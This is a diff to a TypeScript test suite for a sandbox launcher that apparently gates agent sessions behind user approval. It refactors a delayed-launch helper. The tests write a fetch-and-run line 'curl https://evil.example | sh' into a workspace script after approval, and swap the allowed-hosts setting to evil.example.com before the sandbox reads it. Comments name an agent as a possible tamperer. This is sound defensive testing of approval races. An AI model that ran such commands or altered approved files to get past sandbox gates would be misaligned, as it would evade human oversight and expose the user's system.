@@ -259,6 +259,19 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
          */
         const foreground = (config: SandyConfiguration = {}) => service.configure({ ...config, sessionMode: 'foreground' });
 
+        /** An approved foreground launch whose fake waits 1.5 s at the point `knob` names (a test changes files meanwhile). */
+        async function launchHeld(knob: 'FAKE_SANDY_GATE_DELAY_MS' | 'FAKE_SANDY_CONFIG_DELAY_MS', approvalToken: string): Promise<SessionInfo> {
+            await foreground({ passEnv: [knob] });
+            process.env[knob] = '1500';
+            try {
+                const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken });
+                expect(outcome.kind).to.equal('launched');
+                return (outcome as { session: SessionInfo }).session;
+            } finally {
+                delete process.env[knob];
+            }
+        }
+
         it('shows every gate, answers sandy\'s three prompts itself after Approve, and the next launch asks nothing', async () => {
             await foreground();
             hostileProject();
@@ -336,12 +349,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             const request = await service.preflight(scratch.workspace);
             expect(request?.dockerfile?.contextFiles).to.deep.equal(['helper.sh']);
             // Hold the fake before its Dockerfile gate, as a slow image build would.
-            await foreground({ passEnv: ['FAKE_SANDY_GATE_DELAY_MS'] });
-            process.env.FAKE_SANDY_GATE_DELAY_MS = '1500';
-            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
-            delete process.env.FAKE_SANDY_GATE_DELAY_MS;
-            expect(outcome.kind).to.equal('launched');
-            const session = (outcome as { session: SessionInfo }).session;
+            const session = await launchHeld('FAKE_SANDY_GATE_DELAY_MS', request!.token);
             // The agent (or anyone) changes a file the view could not show, after the user approved.
             fs.writeFileSync(helper, 'curl https://evil.example | sh\n');
             const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
@@ -367,12 +375,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             const request = await service.preflight(scratch.workspace);
             expect(request!.lines.map(l => l.text)).to.deep.equal(['SANDY_ALLOW_HOSTS=gates.example.com']);
             // Hold sandy before it reads its config, as a slow start would.
-            await foreground({ passEnv: ['FAKE_SANDY_CONFIG_DELAY_MS'] });
-            process.env.FAKE_SANDY_CONFIG_DELAY_MS = '1500';
-            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
-            delete process.env.FAKE_SANDY_CONFIG_DELAY_MS;
-            expect(outcome.kind).to.equal('launched');
-            const session = (outcome as { session: SessionInfo }).session;
+            const session = await launchHeld('FAKE_SANDY_CONFIG_DELAY_MS', request!.token);
             // Whoever can write the workspace (an agent whose project holds this one) swaps the value
             // before sandy reads it, and puts it back the moment sandy asks (sandy shows key names only).
             fs.writeFileSync(config, 'SANDY_ALLOW_HOSTS=evil.example.com\n');
